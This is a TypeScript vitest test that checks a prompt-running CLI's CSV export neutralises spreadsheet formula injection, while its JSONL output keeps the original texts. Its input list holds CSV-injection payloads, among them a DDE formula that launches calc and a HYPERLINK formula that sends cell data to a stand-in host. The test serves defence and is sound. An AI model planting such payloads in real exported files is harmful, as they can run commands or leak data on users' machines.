import {readFileSync} from 'node:fs';
import path from 'node:path';
import {parse} from 'csv-parse/sync';
import {expect, test} from 'vitest';
import {scriptedServer} from '../api/scripted-server.ts';
import {runCli} from '../cli/cli-process.ts';
import {folderWith, jsonLines, resultsOf} from '../cli/run-folder.ts';
import {expectInvariants} from './invariants.ts';

const key = 'sk-test-fault-36-0123456789';
const env = {OPENAI_API_KEY: key};

const formulas = [
	"=cmd|' /C calc'!A0",
	'+1+cmd',
	'-2+3',
	'@SUM(1+1)',
	'\t=1',
	'\r=1',
	'\n=1',
	'  =1',
	'"=1"',
	"'=1'",
	' " =1',
	'\u200b=1',
	'\ufeff=1',
	'\u00a0=1',
	'＝1',
	'＋1',
	'－1',
	'＠x',
	'=HYPERLINK("http://x/?"&A1,"a,b")',
];
const harmless = ['a=1', '1-2', 'it’s = fine', '漢字', 'two\nlines', 'quo"te', 'a,b', '', '0', 'null'];
const texts = [...formulas, ...harmless];

/** What a spreadsheet makes of a cell: blanks and quotes before a sign do not keep every one of them from computing. */
const computes = /^(?:[\t\r\n]|[\s"\u200b\ufeff]*[=+\-@＝＋－＠])/;

test('fault 36: no cell of a CSV is a formula, and JSONL stays as it came', async () => {
	const server = await scriptedServer(({body}, response) => {
		const {messages} = JSON.parse(body.toString()) as {
			readonly messages: readonly {readonly content: string}[];
		};
		// Each answer is its prompt.
		const message = {role: 'assistant', content: messages[0]!.content};
		const choices = [{index: 0, message, finish_reason: 'stop'}];
		const usage = {prompt_tokens: 1, completion_tokens: 1, total_tokens: 2};
		const answer = {
			id: '=1',
			object: 'chat.completion',
			model: '=m',
			system_fingerprint: '@f',
			choices,
			usage,
		};
		const status = messages[0]!.content === '' ? 400 : 200;
		const error = {error: {message: '=fail()', code: '+x', type: '@y'}};
		response.writeHead(status, {'content-type': 'application/json', 'x-request-id': '=req'});
		response.end(JSON.stringify(status === 200 ? answer : error));
	});
	const rows = texts.map((text, n) => JSON.stringify({id: `${text}#${n}`, text, '=column': text}));
	const folder = folderWith({
		'spec.yaml':
			"model: =model\nmode: direct\nprompts: '{{text}}'\nargs: {file: rows.jsonl}\nretry: {max_retries: 0}\n",
		'rows.jsonl': rows.join('\n'),
	});
	const end = await runCli(['spec.yaml', '--base-url', `${server.origin}/v1`], {cwd: folder, env});
	expect(end.code, end.stdout + end.stderr).toBe(1);
	const exported = async (...flags: readonly string[]) =>
		(await runCli(['export', 'spec.yaml', ...flags], {cwd: folder})).stdout;

	for (const csv of [await exported('--format', 'csv'), await exported('--format', 'csv', '--failed')]) {
		const cells = (parse(csv, {bom: false, relax_column_count: false}) as string[][]).flat();
		expect(cells.length).toBeGreaterThan(10);
		expect(cells.filter(cell => computes.test(cell))).toEqual([]);
	}

	// Nothing is lost by it: each text is there, behind an apostrophe where it needs one.
	const answered = texts.filter(text => text !== '');
	const table = parse(await exported('--format', 'csv'), {columns: true}) as {text: string}[];
	expect(table.map(({text}) => text)).toEqual(
		answered.map(text => (computes.test(text) ? `'${text}` : text)),
	);
	expect(resultsOf(folder).map(({text}) => text)).toEqual(answered);
	expect(jsonLines(await exported()).map(({text}) => text)).toEqual(answered);

	const file = path.join(folder, 'out.csv');
	await exported('--format', 'csv', '--output', file);
	expect((parse(readFileSync(file), {columns: true}) as {text: string}[]).map(({text}) => text)).toEqual(
		table.map(({text}) => text),
	);
	await expectInvariants({folder, requests: texts.length, ends: [end], keys: [key]});
});
